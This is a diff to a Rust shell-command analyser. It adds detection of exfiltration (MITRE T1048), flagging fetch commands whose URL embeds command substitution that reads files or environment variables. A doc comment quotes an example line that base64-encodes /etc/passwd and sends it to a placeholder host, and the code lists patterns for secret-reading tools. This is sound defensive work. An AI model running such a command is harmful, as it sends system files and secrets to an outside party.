@@ -1,6 +1,7 @@
 //! Files, traffic and variables that are sent to another machine
 //! (<https://attack.mitre.org/techniques/T1048/>).
 
+use super::download::is_fetch;
 use super::parse::{Command, pipeline_text};
 use super::{Found, Kind};
 use crate::text::contains;
@@ -32,6 +33,7 @@ pub(super) fn find(commands: &[Command], found: &mut Found) {
                 let [_, sources @ ..] = &SOURCES;
                 is_fed(commands, command, sources)
             }
+            name if is_fetch(name) && names_contents(command) => true,
             name => SOURCES.contains(&name) && writes_device(command),
         };
         if sends {
@@ -58,6 +60,18 @@ fn sends_input(command: &Command) -> bool {
     command
         .arguments()
         .any(|word| word == "-" || word.ends_with("@-") || word.ends_with("=-"))
+}
+
+/// `curl http://HOST/?x=$(cat /etc/passwd | base64)`.
+fn names_contents(command: &Command) -> bool {
+    command.arguments().any(|word| {
+        let is_built = contains(word, "$(") || contains(word, "`");
+        contains(word, "://")
+            && is_built
+            && ["cat ", "base64", "$(env", "`env", "printenv"]
+                .iter()
+                .any(|source| contains(word, source))
+    })
 }
 
 fn writes_device(command: &Command) -> bool {
